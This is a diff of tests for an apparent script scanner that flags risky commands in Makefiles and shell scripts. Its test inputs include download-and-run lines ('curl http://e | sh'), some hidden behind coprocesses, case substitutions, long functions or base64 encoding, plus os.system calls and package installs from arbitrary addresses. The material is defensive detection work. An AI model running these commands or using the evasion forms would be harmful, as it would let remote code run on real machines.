@@ -198,6 +198,71 @@ def test_recipe_of_a_makefile_whose_shell_is_python_is_read_as_a_python_program(
     )
 
 
+@check_each(
+    "text",
+    [
+        '.ONESHELL:\nSHELL := python3\nall:\n\timport os\n\tos.system("id")\n',
+        'all: SHELL := python3\nall:\n\timport os; \\\n\tos.system("id")\n',
+        'all: private SHELL = /usr/bin/env python3\nall:\n\t__import__("os").system("id")\n',
+    ],
+)
+def test_recipe_of_a_makefile_whose_rule_or_one_shell_is_python_is_read_as_a_python_program(text, read_bytes):
+    assert "os.system" in {name for _, name in list_mentions(read_bytes(text.encode(), "Makefile"))}
+
+
+def test_recipe_of_another_rule_than_one_whose_shell_is_python_is_read_as_shell(read_bytes):
+    text = "a: SHELL := python3\na:\n\tpass\nb:\n\tcurl http://e | sh\n"
+    assert ("download-and-run", "http://e") in list_mentions(read_bytes(text.encode(), "Makefile"))
+
+
+@check_each(
+    "text",
+    [
+        "coproc curl http://e\ncat <&${COPROC[0]} | sh\n",
+        # The parenthesis of a pattern does not end a substitution.
+        'y="$(case a in a) echo "it\'s";; esac)"\ncurl http://e | sh\nz=\'\'\n',
+        'y="$(case a in (a) case b in b) echo "it\'s";; esac;; esac)"\ncurl http://e | sh\nz=\'\'\n',
+        'y="$(echo case a in)"\ncurl http://e | sh\nz="it\'s"\n',
+        # Long functions and inline programs are read whole.
+        "f() {\n" + "echo x\n" * 2000 + ' sh -c "$1"\n}\nf "$(curl http://e)"\n',
+    ],
+)
+def test_download_behind_a_coprocess_case_in_a_substitution_or_long_function_is_reported(text):
+    names = {mention.name for mention in collect_script_mentions(text)}
+    assert names == {"http://e"}
+
+
+@check_each(
+    "text",
+    [
+        "npm i -g https://e/x.tgz\n",
+        "sudo yarn add git+https://e/x.git\n",
+        "npx https://e/x\n",
+        "gem install https://e/x.gem\n",
+        "cargo install --git https://e/x\n",
+        "cargo install --git=https://e/x\n",
+        "uv tool install git+https://e/x\n",
+        "npm i git@e:x.git\n",
+    ],
+)
+def test_package_that_any_package_manager_installs_from_an_address_is_reported(text):
+    assert {mention.use for mention in collect_script_mentions(text)} == {"address"}
+    assert not list(collect_script_mentions("npm ci\nnpm i -g yarn\ncargo install x\ngem install rake\n"))
+
+
+@check_each(
+    "text",
+    [
+        "f() {\n" + "echo x\n" * 40_000 + "}\nf a\n",
+        "python3 -c 'x = 1" + ";" * 250_000 + "'\n",
+        "cat > x <<'E'\n" + "x\n" * 120_000 + "E\n",
+    ],
+)
+def test_part_of_a_script_beyond_a_bound_on_its_length_is_reported_as_unread(text):
+    with pytest.raises(LimitReachedError):
+        list(collect_script_mentions(text))
+
+
 def test_command_in_a_base64_script_is_mentioned_at_the_line_that_decodes_and_runs_it():
     encoded = base64.b64encode(b"curl http://e.invalid/x | sh").decode()
     mentions = list(collect_script_mentions(f"true\necho {encoded} | base64 -d | sh\n"))
